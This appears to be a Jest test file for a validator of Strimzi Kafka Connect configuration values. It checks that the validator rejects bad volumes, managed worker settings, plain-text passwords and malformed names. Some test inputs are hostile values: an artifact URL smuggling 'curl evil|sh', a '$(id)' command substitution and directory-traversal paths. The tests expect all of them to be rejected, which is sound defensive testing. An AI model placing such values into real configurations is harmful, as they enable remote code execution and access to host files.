import { formatProblem, Problem } from '../problems';
import { parseValues } from './parse';

/** Small valid values; each case below breaks exactly one rule of docs/values.md. */
function base(): Record<string, any> {
  return {
    name: 'orders',
    namespace: 'data',
    owner: 'group:default/data-platform',
    strimzi: { version: '1.2.0' },
    kafka: { bootstrapServers: 'kafka:9092' },
    image: { name: 'registry.example.com/data/orders-connect' },
    plugins: [
      {
        name: 'jdbc',
        artifacts: [
          {
            type: 'maven',
            group: 'io.confluent',
            artifact: 'kafka-connect-jdbc',
            version: '10.8.0',
          },
        ],
      },
    ],
    configProviders: [{ name: 'secrets', type: 'kubernetes-secret' }],
    env: [{ name: 'TZ', value: 'UTC' }],
    volumes: [{ name: 'scratch', mountPath: '/mnt/scratch', emptyDir: {} }],
    connectors: [
      {
        name: 'orders-sink',
        class: 'io.confluent.connect.jdbc.JdbcSinkConnector',
        tasksMax: 1,
        config: { 'connection.password': '${secrets:data/orders-db:password}' },
      },
    ],
  };
}

type Case = [
  title: string,
  mutate: (v: Record<string, any>) => void,
  path: string,
  says: RegExp,
];

const CASES: Case[] = [
  [
    'projected volume (GCP Workload Identity Federation)',
    v => {
      v.volumes[0] = {
        name: 'gcp',
        mountPath: '/mnt/gcp',
        projected: { sources: [] },
      };
    },
    'volumes[0].projected',
    /not supported by Strimzi.*secret.*serviceAccount\.annotations/s,
  ],
  [
    'hostPath volume',
    v => {
      v.volumes[0] = {
        name: 'h',
        mountPath: '/mnt/h',
        hostPath: { path: '/' },
      };
    },
    'volumes[0].hostPath',
    /not supported by Strimzi/,
  ],
  [
    'mount path outside /mnt',
    v => {
      v.volumes[0].mountPath = '/opt/kafka/extra';
    },
    'volumes[0].mountPath',
    /below \/mnt\//,
  ],
  [
    'mount path climbing out with ..',
    v => {
      v.volumes[0].mountPath = '/mnt/../etc';
    },
    'volumes[0].mountPath',
    /"\.\."/,
  ],
  [
    'subPath climbing out with ..',
    v => {
      v.volumes[0] = {
        name: 'c',
        mountPath: '/mnt/c',
        subPath: '../x',
        configMap: { name: 'c' },
      };
    },
    'volumes[0].subPath',
    /without "\.\."/,
  ],
  [
    'volume named like the operator volume strimzi-tmp',
    v => {
      v.volumes[0].name = 'strimzi-tmp';
    },
    'volumes[0].name',
    /clashes with a volume the Strimzi operator adds/,
  ],
  [
    'volume named kafka-connect-configurations',
    v => {
      v.volumes[0].name = 'kafka-connect-configurations';
    },
    'volumes[0].name',
    /clashes/,
  ],
  [
    'volume named rack-volume',
    v => {
      v.volumes[0].name = 'rack-volume';
    },
    'volumes[0].name',
    /clashes/,
  ],
  [
    'volume named plugin-*',
    v => {
      v.volumes[0].name = 'plugin-jdbc';
    },
    'volumes[0].name',
    /clashes/,
  ],
  [
    'volume named kube-api-access-*',
    v => {
      v.volumes[0].name = 'kube-api-access-abcde';
    },
    'volumes[0].name',
    /clashes/,
  ],
  [
    'two sources in one volume',
    v => {
      v.volumes[0].secret = { secretName: 's' };
    },
    'volumes[0]',
    /2 sources \(secret, emptyDir\)|2 sources/,
  ],
  [
    'a volume without a source',
    v => {
      delete v.volumes[0].emptyDir;
    },
    'volumes[0]',
    /exactly one source/,
  ],
  [
    'two volumes with one name',
    v => {
      v.volumes.push({
        name: 'scratch',
        mountPath: '/mnt/other',
        emptyDir: {},
      });
    },
    'volumes[1].name',
    /already used by volumes\[0\]/,
  ],
  [
    'two volumes on one mount path',
    v => {
      v.volumes.push({
        name: 'other',
        mountPath: '/mnt/scratch',
        emptyDir: {},
      });
    },
    'volumes[1].mountPath',
    /already the mount path of volumes\[0\]/,
  ],
  [
    'two env entries with one name',
    v => {
      v.env.push({ name: 'TZ', value: 'Europe/Paris' });
    },
    'env[1].name',
    /already used by env\[0\]/,
  ],
  [
    'env name Strimzi sets',
    v => {
      v.env[0].name = 'KAFKA_HEAP_OPTS';
    },
    'env[0].name',
    /set by Strimzi/,
  ],
  [
    'env with value and valueFrom',
    v => {
      v.env[0].valueFrom = { secretKeyRef: { name: 's', key: 'k' } };
    },
    'env[0]',
    /exactly one of value or valueFrom/,
  ],
  [
    'a Kafka version the release lacks, reported with other shape errors',
    v => {
      v.kafka.version = '3.9.0';
      v.replicas = 'two';
    },
    'kafka.version',
    /not supported by Strimzi 1\.2\.0/,
  ],
  [
    'oauth on 1.2.0, reported with other shape errors',
    v => {
      v.kafka.authentication = { type: 'oauth', clientId: 'c' };
      delete v.namespace;
    },
    'kafka.authentication.type',
    /no "oauth" type/,
  ],
  [
    'a volume outside /mnt reported with other shape errors',
    v => {
      v.volumes[0].mountPath = '/etc';
      delete v.kafka;
    },
    'volumes[0].mountPath',
    /below \/mnt\//,
  ],
  [
    'a forbidden worker setting reported with other shape errors',
    v => {
      v.connect = { config: { 'ssl.keystore.type': 'JKS' } };
      v.replicas = 'two';
    },
    'connect.config["ssl.keystore.type"]',
    /Strimzi manages TLS/,
  ],
  [
    'Kafka version the release lacks',
    v => {
      v.kafka.version = '3.9.0';
    },
    'kafka.version',
    /not supported by Strimzi 1\.2\.0; choose one of 4\.2\.0/,
  ],
  [
    'unsupported Strimzi release',
    v => {
      v.strimzi.version = '0.44.0';
    },
    'strimzi.version',
    /must be one of: "0\.45\.0"/,
  ],
  [
    'oauth on the v1-only release 1.0.0',
    v => {
      v.strimzi.version = '1.0.0';
      v.kafka.authentication = { type: 'oauth', clientId: 'c' };
    },
    'kafka.authentication.type',
    /no "oauth" type; use type "custom"/,
  ],
  [
    'custom authentication before 0.48',
    v => {
      v.strimzi.version = '0.47.0';
      v.kafka.authentication = { type: 'custom', sasl: true };
    },
    'kafka.authentication.type',
    /needs Strimzi 0\.48\.0 or newer/,
  ],
  [
    'image volume before 0.47',
    v => {
      v.strimzi.version = '0.46.0';
      v.volumes[0] = {
        name: 'img',
        mountPath: '/mnt/img',
        image: { reference: 'registry.example.com/x:1' },
      };
    },
    'volumes[0].image',
    /need Strimzi 0\.47\.0 or newer/,
  ],
  [
    'Strimzi Metrics Reporter before 0.48',
    v => {
      v.strimzi.version = '0.47.0';
      v.metrics = { type: 'strimziMetricsReporter' };
    },
    'metrics.type',
    /needs Strimzi 0\.48\.0 or newer/,
  ],
  [
    'a password written into a worker setting',
    v => {
      v.connect = { config: { 'producer.override.sasl.password': 'x' } };
    },
    'connect.config["producer.override.sasl.password"]',
    /credential written in plain text/,
  ],
  [
    'a password written into a connector',
    v => {
      v.connectors[0].config['connection.password'] = 'hunter2';
    },
    'connectors[0].config["connection.password"]',
    /credential written in plain text.*\$\{secrets:/,
  ],
  [
    'a secret written into an env value',
    v => {
      v.env[0] = { name: 'DB_PASSWORD', value: 'hunter2' };
    },
    'env[0].value',
    /valueFrom\.secretKeyRef/,
  ],
  [
    'a password field in the authentication',
    v => {
      v.kafka.authentication = {
        type: 'scram-sha-512',
        username: 'u',
        password: 'p',
        passwordSecret: { secretName: 's', password: 'p' },
      };
    },
    'kafka.authentication.password',
    /never hold credentials/,
  ],
  [
    'an access key in the AWS provider params',
    v => {
      v.configProviders.push({
        name: 'aws',
        type: 'aws-secrets-manager',
        params: { 'aws.secret.key': 'abc' },
      });
    },
    'configProviders[1].params["aws.secret.key"]',
    /serviceAccount\.annotations/,
  ],
  [
    'a literal password in a JAAS line',
    v => {
      v.strimzi.version = '1.2.0';
      v.kafka.authentication = {
        type: 'custom',
        sasl: true,
        config: {
          'sasl.jaas.config':
            'PlainLoginModule required username="u" password="p";',
        },
      };
    },
    'kafka.authentication.config["sasl.jaas.config"]',
    /plain text/,
  ],
  [
    'a newline in the name',
    v => {
      v.name = 'orders\nx';
    },
    'name',
    /DNS-1123 label/,
  ],
  [
    'a newline in the description',
    v => {
      v.description = 'line one\nline two';
    },
    'description',
    /single line/,
  ],
  [
    'shell metacharacters in an artifact URL',
    v => {
      v.plugins[0].artifacts[0] = {
        type: 'jar',
        url: 'https://x.example.com/a.jar;curl evil|sh',
        sha512sum: 'a'.repeat(128),
      };
    },
    'plugins[0].artifacts[0].url',
    /shell metacharacters/,
  ],
  [
    'command substitution in a certificate URL',
    v => {
      v.truststore = {
        certificates: [{ name: 'ca', url: 'https://x.example.com/$(id).pem' }],
      };
    },
    'truststore.certificates[0].url',
    /shell metacharacters/,
  ],
  [
    'a plugin name that climbs out',
    v => {
      v.plugins[0].name = '../../etc';
    },
    'plugins[0].name',
    /folder name/,
  ],
  [
    'a name too long for the derived names',
    v => {
      v.name = 'a'.repeat(60);
    },
    'name',
    /at most 41 characters/,
  ],
  [
    'a worker setting Strimzi manages: ssl.*',
    v => {
      v.connect = { config: { 'ssl.truststore.location': '/x' } };
    },
    'connect.config["ssl.truststore.location"]',
    /Strimzi manages TLS settings/,
  ],
  [
    'a worker setting Strimzi manages: sasl.*',
    v => {
      v.connect = { config: { 'sasl.mechanism': 'PLAIN' } };
    },
    'connect.config["sasl.mechanism"]',
    /kafka\.authentication/,
  ],
  [
    'a worker setting Strimzi manages: security.protocol',
    v => {
      v.connect = { config: { 'security.protocol': 'SSL' } };
    },
    'connect.config["security.protocol"]',
    /security protocol/,
  ],
  [
    'a worker setting Strimzi manages: listeners',
    v => {
      v.connect = { config: { listeners: 'http://:9999' } };
    },
    'connect.config.listeners',
    /apiAccess/,
  ],
  [
    'a worker setting Strimzi manages: rest.*',
    v => {
      v.connect = { config: { 'rest.advertised.port': 1 } };
    },
    'connect.config["rest.advertised.port"]',
    /apiAccess/,
  ],
  [
    'a worker setting Strimzi manages: plugin.path',
    v => {
      v.connect = { config: { 'plugin.path': '/x' } };
    },
    'connect.config["plugin.path"]',
    /plugins/,
  ],
  [
    'a worker setting Strimzi manages: bootstrap.servers',
    v => {
      v.connect = { config: { 'bootstrap.servers': 'a:1' } };
    },
    'connect.config["bootstrap.servers"]',
    /kafka\.bootstrapServers/,
  ],
  [
    'a worker setting rendered from a field: config.providers',
    v => {
      v.connect = { config: { 'config.providers': 'x' } };
    },
    'connect.config["config.providers"]',
    /configProviders/,
  ],
  [
    'a worker setting rendered from a field: group.id',
    v => {
      v.connect = { config: { 'group.id': 'x' } };
    },
    'connect.config["group.id"]',
    /connect\.groupId/,
  ],
  [
    'a connector class inside config',
    v => {
      v.connectors[0].config['connector.class'] = 'x.Y';
    },
    'connectors[0].config["connector.class"]',
    /connectors\[0\]\.class/,
  ],
  [
    'a reference to an undeclared config provider',
    v => {
      v.connectors[0].config['connection.user'] = '${vault:db:user}';
    },
    'connectors[0].config["connection.user"]',
    /config provider "vault"/,
  ],
  [
    'a custom provider without its class',
    v => {
      v.configProviders.push({ name: 'vault', type: 'custom' });
    },
    'configProviders[1].class',
    /needs class/,
  ],
  [
    'plugins without image.name',
    v => {
      delete v.image.name;
    },
    'image.name',
    /required when image\.build is dockerfile/,
  ],
  [
    'a truststore with the Strimzi build',
    v => {
      v.image.build = 'strimzi';
      v.truststore = {
        certificates: [{ name: 'ca', url: 'https://x.example.com/ca.pem' }],
      };
    },
    'truststore.certificates',
    /image\.build: dockerfile/,
  ],
  [
    'two plugins with one name',
    v => {
      v.plugins.push(v.plugins[0]);
    },
    'plugins[1].name',
    /already used by plugins\[0\]/,
  ],
  [
    'an unknown top-level field',
    v => {
      v.replica = 2;
    },
    'replica',
    /unknown field/,
  ],
  [
    'negative replicas',
    v => {
      v.replicas = -1;
    },
    'replicas',
    /at least 0/,
  ],
  [
    'replication factor 0',
    v => {
      v.connect = { replicationFactor: 0 };
    },
    'connect.replicationFactor',
    /-1 \(the broker default\) or at least 1/,
  ],
  [
    'an owner that is no entity reference',
    v => {
      v.owner = 'data platform';
    },
    'owner',
    /entity reference/,
  ],
  [
    'an owner of the wrong kind',
    v => {
      v.owner = 'component:default/x';
    },
    'owner',
    /group, user/,
  ],
  [
    'bootstrap servers without a port',
    v => {
      v.kafka.bootstrapServers = 'kafka';
    },
    'kafka.bootstrapServers',
    /host:port/,
  ],
  [
    'a short sha512',
    v => {
      v.plugins[0].artifacts[0] = {
        type: 'jar',
        url: 'https://x.example.com/a.jar',
        sha512sum: 'abc',
      };
    },
    'plugins[0].artifacts[0].sha512sum',
    /128 lower-case hex/,
  ],
  [
    'API access with no pod labels',
    v => {
      v.apiAccess = [{ name: 'ui', podLabels: {} }];
    },
    'apiAccess[0].podLabels',
    /at least one label/,
  ],
  [
    'an unknown artifact type',
    v => {
      v.plugins[0].artifacts[0] = {
        type: 'rpm',
        url: 'https://x.example.com/a.rpm',
      };
    },
    'plugins[0].artifacts[0].type',
    /must be one of: "maven", "jar", "tgz", "zip"/,
  ],
  ['the values are not a mapping', () => undefined, '', /YAML mapping/],
];

function problemsOf(values: unknown): Problem[] {
  const result = parseValues(values);
  return result.ok ? [] : result.problems;
}

describe('values rules', () => {
  it('accepts the base values', () => {
    expect(problemsOf(base()).map(formatProblem)).toEqual([]);
  });

  it.each(CASES)('rejects %s', (_title, mutate, path, says) => {
    const values = base();
    mutate(values);
    const input = path === '' ? ['not', 'a', 'mapping'] : values;
    const problems = problemsOf(input);
    const atPath = problems.filter(p => p.path === path);
    expect({
      paths: problems.map(p => p.path),
      matched: atPath.some(p => says.test(p.message)),
    }).toEqual({
      paths: expect.arrayContaining([path]),
      matched: true,
    });
    // Every line names its field and says what to do: never a bare type error.
    for (const p of problems)
      expect(formatProblem(p)).toMatch(/^[^\n]+: [^\n]+$/);
  });
});

describe('every problem in one run', () => {
  it('reports a shape problem and a literal password together', () => {
    const values = base();
    values.plugins[0].artifacts[0] = {
      type: 'jar',
      url: 'https://x.example.com/a.jar',
      sha512sum: 'abc',
    };
    values.connectors[0].config['connection.password'] = 'hunter2';
    expect(problemsOf(values).map(p => p.path)).toEqual([
      'plugins[0].artifacts[0].sha512sum',
      'connectors[0].config["connection.password"]',
    ]);
  });

  it('runs a rule only when the fields it reads parsed', () => {
    const values = base();
    values.connectors[0].tasksMax = 0;
    values.connectors[0].config['connection.password'] = 'hunter2';
    values.env.push({ name: 'DB_PASSWORD', value: 'hunter2' });
    // The connectors do not parse, so nothing reads their config; env still parses.
    expect(problemsOf(values).map(p => p.path)).toEqual([
      'connectors[0].tasksMax',
      'env[1].value',
    ]);
  });

  it('reports the unknown-provider rule beside a broken connector list', () => {
    const values = base();
    values.connectors.push({ name: 'broken' });
    values.connect = { config: { 'key.converter.url': '${vault:x:y}' } };
    expect(problemsOf(values).map(p => p.path)).toEqual(
      expect.arrayContaining([
        'connectors[1].class',
        'connect.config["key.converter.url"]',
      ]),
    );
  });

  // Every pair of broken rules: both are reported, and no problem comes out twice.
  const pairs = CASES.filter(([, , path]) => path !== '').flatMap((a, i, all) =>
    all.slice(i + 1).map(b => [a, b] as const),
  );

  it(`never reports a problem twice (${pairs.length} pairs of broken rules)`, () => {
    const failures: string[] = [];
    for (const [a, b] of pairs) {
      const values = base();
      try {
        a[1](values);
        b[1](values);
      } catch {
        continue; // the second mutation needs what the first replaced
      }
      const lines = problemsOf(values).map(formatProblem);
      const twice = lines.filter((line, i) => lines.indexOf(line) !== i);
      if (twice.length > 0) failures.push(`${a[0]} + ${b[0]}: ${twice[0]}`);
    }
    expect(failures).toEqual([]);
  });

  it.each(CASES.filter(([, , path]) => path !== '' && path !== 'replicas'))(
    'reports %s next to a shape problem elsewhere',
    (_title, mutate, path, says) => {
      const values = base();
      mutate(values);
      values.replicas = -1;
      const problems = problemsOf(values);
      expect({
        replicas: problems.some(p => p.path === 'replicas'),
        matched: problems.some(p => p.path === path && says.test(p.message)),
      }).toEqual({ replicas: true, matched: true });
    },
  );
});
